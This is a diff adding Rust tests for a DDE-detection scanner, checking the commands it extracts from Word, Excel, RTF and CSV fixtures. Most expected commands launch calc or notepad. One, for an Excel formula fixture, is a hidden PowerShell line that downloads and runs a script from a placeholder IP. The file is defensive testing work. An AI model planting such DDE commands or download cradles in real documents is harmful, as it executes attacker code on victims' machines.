@@ -1,0 +1,179 @@
+//! Every positive fixture yields exactly its commands; every negative fixture yields none.
+
+use crate::util::{scan, testdata};
+
+/// (fixture, rule id, commands) for each positive fixture.
+const POSITIVES: &[(&str, &str, &[&str])] = &[
+    (
+        "word-ddeauto-runs.docx",
+        "ddesweep.document.ddeauto_field",
+        &[r#"c:\windows\system32\cmd.exe "/k calc.exe""#],
+    ),
+    (
+        "word-dde-fldsimple.docx",
+        "ddesweep.document.dde_field",
+        &[r#"c:\windows\system32\cmd.exe "/c notepad.exe""#],
+    ),
+    (
+        "word-every-part.docm",
+        "ddesweep.document.ddeauto_field",
+        &[
+            r#"cmd.exe "/c echo body""#,
+            r#"cmd.exe "/c echo comment""#,
+            r#"cmd.exe "/c echo endnote""#,
+            r#"cmd.exe "/c echo footer""#,
+            r#"cmd.exe "/c echo footnote""#,
+            r#"cmd.exe "/c echo header""#,
+        ],
+    ),
+    (
+        "word-quote-nested.docx",
+        "ddesweep.document.ddeauto_field",
+        &[r#"C:\Windows\System32\cmd.exe "/c calc.exe""#],
+    ),
+    (
+        "word-lowercase.dotm",
+        "ddesweep.document.ddeauto_field",
+        &[r#"c:\windows\system32\cmd.exe "/c whoami""#],
+    ),
+    (
+        "excel-ddelink.xlsx",
+        "ddesweep.document.dde_link",
+        &["cmd /c calc.exe"],
+    ),
+    (
+        "excel-formula.xlsm",
+        "ddesweep.document.dde_formula",
+        &[
+            "cmd /c powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1')",
+        ],
+    ),
+    (
+        "rtf-ddeauto.rtf",
+        "ddesweep.document.ddeauto_field",
+        &[r#"c:\windows\system32\cmd.exe "/k calc.exe""#],
+    ),
+    (
+        "rtf-escaped.rtf",
+        "ddesweep.document.ddeauto_field",
+        &[
+            r#"c:\windows\system32\cmd.exe "/c calc.exe""#,
+            r#"c:\windows\system32\cmd.exe "/c mspaint.exe""#,
+        ],
+    ),
+    (
+        "csv-cmd.csv",
+        "ddesweep.document.dde_formula",
+        &["cmd /c calc.exe"],
+    ),
+    (
+        "csv-utf16.csv",
+        "ddesweep.document.dde_formula",
+        &["cmd /c notepad.exe"],
+    ),
+    (
+        "csv-bom.tsv",
+        "ddesweep.document.dde_formula",
+        &["cmd /c calc.exe"],
+    ),
+    (
+        "csv-libreoffice.csv",
+        "ddesweep.document.dde_formula",
+        &["cmd /c calc.exe"],
+    ),
+    (
+        "txt-formula.txt",
+        "ddesweep.document.dde_formula",
+        &["cmd /c calc.exe"],
+    ),
+];
+
+#[test]
+fn positive_fixtures_yield_their_exact_commands() {
+    let folder = testdata("documents/positive");
+    let run = scan(&[&folder], &[]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    for (name, rule, commands) in POSITIVES {
+        let found: Vec<(String, String, String)> = run
+            .findings()
+            .into_iter()
+            .filter(|(path, _, _)| path == name)
+            .collect();
+        let mut got: Vec<&str> = found.iter().map(|(_, _, c)| c.as_str()).collect();
+        got.sort_unstable();
+        assert_eq!(got, *commands, "commands of {name}");
+        for (_, rule_id, _) in &found {
+            assert_eq!(rule_id, rule, "rule of {name}");
+        }
+        let artifact = run.artifact(name);
+        assert_eq!(artifact["status"], "analyzed", "{name}: {artifact}");
+        assert_eq!(artifact["findings"], commands.len(), "{name}");
+    }
+    assert_eq!(run.manifest["totals"]["seen"], POSITIVES.len());
+    assert_eq!(run.manifest["totals"]["analyzed"], POSITIVES.len());
+    let expected: usize = POSITIVES.iter().map(|(_, _, c)| c.len()).sum();
+    assert_eq!(run.manifest["totals"]["findings"], expected);
+}
+
+#[test]
+fn every_part_fixture_names_its_parts() {
+    let run = scan(&[&testdata("documents/positive/word-every-part.docm")], &[]);
+    let mut parts: Vec<&str> = run
+        .rows
+        .iter()
+        .filter(|r| r["severity"] != "info")
+        .map(|r| r["part"].as_str().unwrap_or_default())
+        .collect();
+    parts.sort_unstable();
+    assert_eq!(
+        parts,
+        [
+            "word/comments.xml",
+            "word/document.xml",
+            "word/endnotes.xml",
+            "word/footer1.xml",
+            "word/footnotes.xml",
+            "word/header1.xml"
+        ]
+    );
+}
+
+#[test]
+fn finding_rows_carry_the_details() {
+    let run = scan(&[&testdata("documents/positive/excel-ddelink.xlsx")], &[]);
+    let rows: Vec<_> = run
+        .rows
+        .iter()
+        .filter(|r| r["severity"] != "info")
+        .collect();
+    assert_eq!(rows.len(), 1);
+    let row = rows[0];
+    assert_eq!(row["data_type"], "ddesweep:document:dde_link");
+    assert_eq!(row["dde_service"], "cmd");
+    assert_eq!(row["dde_topic"], "/c calc.exe");
+    assert_eq!(row["dde_item"], "_xlbgnm.A1");
+    assert_eq!(row["part"], "xl/externalLinks/externalLink1.xml");
+    assert_eq!(row["severity"], "critical");
+    assert_eq!(row["confidence"], "high");
+    assert_eq!(row["markers"], "cmd /");
+    assert_eq!(row["tag"], serde_json::json!(["T1559.002", "critical"]));
+    let sha = run.artifact("excel-ddelink.xlsx")["sha256"].clone();
+    assert_eq!(row["sha256"], sha);
+    assert_eq!(sha.as_str().map(str::len), Some(64));
+    let message = row["message"].as_str().unwrap();
+    assert_eq!(
+        message,
+        "DDE link in excel-ddelink.xlsx (xl/externalLinks/externalLink1.xml) runs: cmd /c calc.exe"
+    );
+}
+
+#[test]
+fn negative_fixtures_yield_no_findings() {
+    let run = scan(&[&testdata("documents/negative")], &[]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(run.findings(), Vec::<(String, String, String)>::new());
+    assert_eq!(run.rows.len(), 0, "no DDE document, no context rows");
+    assert_eq!(run.manifest["totals"]["seen"], 4);
+    assert_eq!(run.manifest["totals"]["analyzed"], 4);
+    assert_eq!(run.manifest["totals"]["findings"], 0);
+}
